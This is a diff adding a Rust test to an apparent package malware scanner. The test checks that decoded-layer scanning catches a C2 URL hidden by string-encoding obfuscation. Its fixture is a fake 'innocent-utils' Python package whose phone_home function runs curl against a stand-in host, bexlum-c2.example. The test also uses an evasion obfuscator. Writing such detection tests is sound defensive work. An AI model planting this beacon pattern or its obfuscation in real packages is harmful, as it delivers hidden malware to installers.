@@ -233,6 +233,74 @@ fn scanhub_survives_mutated_reuploads_of_the_whole_corpus() {
     assert!(hub.stats().completed > 0);
 }
 
+/// String-encoding a payload out of surface text must not blind the
+/// scanner — decoded-layer scanning recovers the IOC with full
+/// provenance, and turning layers off reproduces the surface-only
+/// verdict exactly.
+#[test]
+fn scanhub_decoded_layer_smoke() {
+    let rules =
+        yara_engine::compile("rule c2 { strings: $u = \"bexlum-c2.example\" condition: $u }")
+            .expect("compile");
+    let pkg = Package::new(
+        PackageMetadata::new("innocent-utils", "3.2.1"),
+        vec![SourceFile::new(
+            "innocent/net.py",
+            "C2 = 'http://bexlum-c2.example/run.sh'\n\ndef phone_home():\n    import os\n    os.system('curl ' + C2)\n",
+        )],
+        Ecosystem::PyPi,
+    );
+    // The obfuscator hides the C2 literal behind encode expressions;
+    // seeds are scanned until one picks hex or base64 for it (the
+    // split transform is out of scope for layer decoding).
+    let profile = EvasionProfile::single(Transform::EncodeStrings);
+    let mutant = (0..16)
+        .map(|seed| Obfuscator::new(profile.clone(), seed).obfuscate_package(&pkg))
+        .find(|m| {
+            let src = m.files()[0].contents.as_str();
+            !src.contains("bexlum-c2.example")
+                && (src.contains("fromhex") || src.contains("b64decode"))
+        })
+        .expect("some seed hex/base64-encodes the C2 literal");
+
+    // The behavior engine is off in both arms: its constant folder
+    // also rebuilds decode chains (a Folded layer catches this C2
+    // even at depth 0), and this smoke isolates decoded-layer
+    // scanning specifically.
+    let layered = ScanHub::new(
+        Some(rules.clone()),
+        None,
+        HubConfig {
+            dataflow: false,
+            ..HubConfig::default()
+        },
+    );
+    let surface_only = ScanHub::new(
+        Some(rules),
+        None,
+        HubConfig {
+            max_decode_depth: 0,
+            dataflow: false,
+            ..HubConfig::default()
+        },
+    );
+    let blind = surface_only
+        .submit(ScanRequest::from_package(&mutant))
+        .wait();
+    assert!(
+        !blind.flagged(),
+        "surface-only scan was expected to miss the encoded C2"
+    );
+    let seeing = layered.submit(ScanRequest::from_package(&mutant)).wait();
+    assert!(seeing.flagged(), "decoded-layer scan missed the payload");
+    let finding = &seeing.layers[0];
+    assert_eq!(finding.rule, "c2");
+    assert_eq!(finding.file, "innocent/net.py");
+    assert!(finding.depth >= 1);
+    // Surface verdicts agree between the two configurations.
+    assert_eq!(seeing.yara, blind.yara);
+}
+
 /// Obfuscating the obfuscated: the engine applied to its own output must
 /// still produce parsable code the pipeline accepts (attackers iterate).
 #[test]
